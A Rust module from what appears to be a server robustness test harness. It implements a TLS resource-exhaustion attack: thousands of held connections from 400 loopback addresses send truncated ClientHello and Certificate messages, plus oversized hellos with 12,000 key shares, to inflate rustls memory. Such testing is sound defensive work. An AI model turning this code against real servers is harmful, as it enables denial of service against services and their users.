//! Handshakes from hundreds of addresses: as large as TLS has them and never finished, and as many as there is time for.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::connections::{SPARE, descriptors};
use super::eviction_requests::{Findings, no_findings};
use crate::attack::Attack;
use crate::context::AttackContext;

/// Addresses of loopback from which handshakes come: those from this one on.
const FIRST_ADDRESS: Ipv4Addr = Ipv4Addr::new(127, 1, 0, 0);
const ADDRESSES: usize = 400;
/// Handshakes that are begun and kept open, if this process may open so many. What rustls would hold of them is 500 MiB.
const HELD: usize = 8_000;
/// Whole first messages that wait for their turn, from so few addresses that each waits for seconds. Parsed, they have 800 MiB.
const WAITING: usize = 1_000;
const ADDRESSES_OF_WAITING: usize = 8;
/// Number of tasks that open them, and how long they may take.
const OPENERS: usize = 16;
const OPENING: (Duration, Duration) = (Duration::from_secs(10), Duration::from_secs(40));
/// Time for one of them.
const ONE: Duration = Duration::from_secs(2);
/// Bytes of a message as it claims, and those that are sent. rustls takes 64 KiB.
const CLAIMED: usize = 65_000;
const SENT: usize = 64_000;
/// Bytes of a record.
const RECORD: usize = 16_000;
/// Keys in a first message that is as long as may be.
const KEYS: usize = 12_000;

/// Types of messages (RFC 8446, section 4).
const CLIENT_HELLO: u8 = 1;
const CERTIFICATE: u8 = 11;

/// The attacks of this module.
pub fn all() -> Vec<Attack> {
    vec![
        Attack::new(
            "unfinished-handshakes",
            "8,000 handshakes from 400 addresses whose long messages do not end, and whole ones beside them",
            |f| Box::pin(unfinished_handshakes(f)),
        )
        .by_strangers(),
    ]
}

/// Each connection held what had come of a message, up to 64 KiB, and what had been parsed of one that waited for its turn, ten
/// times as much: bounds for an address did not help against hundreds of them.
async fn unfinished_handshakes(context: AttackContext) -> Findings {
    let whole = context.pick(OPENING.0, OPENING.1);
    let said = [half_hello(), half_certificate()].map(Arc::new);
    let waiting = Arc::new(long_hello());
    let most = HELD.min(descriptors().saturating_sub(SPARE + WAITING));
    let half = (0..most).map(|at| (address(at % ADDRESSES), said[at / ADDRESSES % said.len()].clone()));
    let whole_hellos = (0..WAITING).map(|at| (address(at % ADDRESSES_OF_WAITING), waiting.clone()));
    // Side by side, so that some of each have come when the time is over.
    let all: Vec<_> = whole_hellos.chain(half).collect();
    let (began, each) = (Instant::now(), all.len().div_ceil(OPENERS));
    let open = all.chunks(each).map(|some| {
        let (context, some) = (context.clone(), some.to_vec());
        tokio::spawn(async move {
            let mut held = Vec::new();
            for (from, said) in some {
                if began.elapsed() > whole {
                    context.count("not opened");
                    continue;
                }
                held.extend(hold(&context, from, &said).await);
            }
            held
        })
    });
    let held = futures::future::join_all(open).await;
    many(&context).await;
    drop(held);
    no_findings()
}

/// Opens a connection and sends what is to be said, unless the server closes it before.
async fn hold(context: &AttackContext, from: Ipv4Addr, said: &[u8]) -> Option<TcpStream> {
    let sent = async {
        let mut stream = context.setup.direct.connect_tcp(from).await?;
        context.count("open");
        match stream.write_all(said).await {
            Ok(()) => context.count("sent"),
            Err(_) => context.count("closed"),
        }
        anyhow::Ok(stream)
    };
    tokio::time::timeout(ONE, sent).await.ok()?.ok()
}

/// Whole handshakes from all addresses until the time is over.
async fn many(context: &AttackContext) {
    let each = context.clone();
    context
        .repeat(32, move |lane, round| {
            let context = each.clone();
            async move {
                let from = address((lane * 13 + round * 32) % ADDRESSES);
                drop(context.setup.direct.http2(from).await?);
                context.count("shaken");
                Ok(())
            }
        })
        .await;
}

fn address(at: usize) -> Ipv4Addr {
    let at = u32::try_from(at).unwrap_or_default();
    // The first address of 250 is no network's.
    Ipv4Addr::from(u32::from(FIRST_ADDRESS) + (at / 250) * 256 + at % 250 + 1)
}

/// Records with the first bytes of a message.
fn message(kind: u8, claimed: usize, body: &[u8]) -> Vec<u8> {
    let mut message = u32::try_from(claimed).unwrap_or_default().to_be_bytes().to_vec();
    message[0] = kind;
    message.extend(body);
    message.chunks(RECORD).flat_map(|part| [&[22, 3, 3], &length(part.len())[..], part].concat()).collect()
}

/// A length of two bytes.
fn length(count: usize) -> [u8; 2] {
    u16::try_from(count).unwrap_or(u16::MAX).to_be_bytes()
}

/// Bytes after their length.
fn counted(bytes: &[u8]) -> Vec<u8> {
    [&length(bytes.len())[..], bytes].concat()
}

fn extension(kind: u16, body: &[u8]) -> Vec<u8> {
    [&kind.to_be_bytes()[..], &counted(body)].concat()
}

/// A ClientHello with these extensions beside those that every client sends (RFC 8446, section 4.1.2).
fn hello(extensions: &[u8]) -> Vec<u8> {
    let suites = [0x1301_u16, 0xc02b, 0xc02c, 0xc02f, 0xc030].map(u16::to_be_bytes).concat();
    let groups = extension(10, &counted(&[0, 0x1d, 0, 0x17]));
    let formats = extension(11, &[1, 0]);
    let schemes = [0x0403_u16, 0x0503, 0x0804, 0x0805, 0x0401, 0x0807].map(u16::to_be_bytes).concat();
    let schemes = extension(13, &counted(&schemes));
    let extensions = counted(&[&groups, &formats, &schemes, extensions].concat());
    let mut body = [3, 3].to_vec();
    // The random bytes, and no session.
    body.extend([7; 32]);
    body.push(0);
    body.extend(counted(&suites));
    // No compression.
    body.extend([1, 0]);
    body.extend(extensions);
    message(CLIENT_HELLO, body.len(), &body)
}

/// A first message that does not end.
fn half_hello() -> Vec<u8> {
    message(CLIENT_HELLO, CLAIMED, &[0; SENT])
}

/// A client of TLS 1.2 whose certificate does not end: nothing of it is encrypted.
fn half_certificate() -> Vec<u8> {
    [hello(&[]), message(CERTIFICATE, CLAIMED, &[0; SENT])].concat()
}

/// A whole first message of a client of TLS 1.3, with thousands of keys of a byte each.
fn long_hello() -> Vec<u8> {
    let versions = extension(43, &[2, 3, 4]);
    let keys = [&[0, 0x1d], &length(1)[..], &[7]].concat().repeat(KEYS);
    hello(&[versions, extension(51, &counted(&keys))].concat())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use rustls::server::Acceptor;

    use super::*;

    /// Whether rustls finds a whole ClientHello.
    fn is_accepted(said: &[u8]) -> bool {
        let (mut acceptor, mut rest) = (Acceptor::default(), said);
        while !rest.is_empty() {
            acceptor.read_tls(&mut rest).unwrap();
            if acceptor.accept().unwrap().is_some() {
                return true;
            }
        }
        false
    }

    #[test]
    fn rustls_takes_what_is_sent() {
        assert!(is_accepted(&hello(&[])) && is_accepted(&long_hello()) && is_accepted(&half_certificate()));
        assert!(!is_accepted(&half_hello()));
    }

    #[test]
    fn the_addresses_are_different_ones() {
        let all: std::collections::BTreeSet<_> = (0..ADDRESSES).map(address).collect();
        assert_eq!((all.len(), all.first()), (ADDRESSES, Some(&Ipv4Addr::new(127, 1, 0, 1))));
    }
}
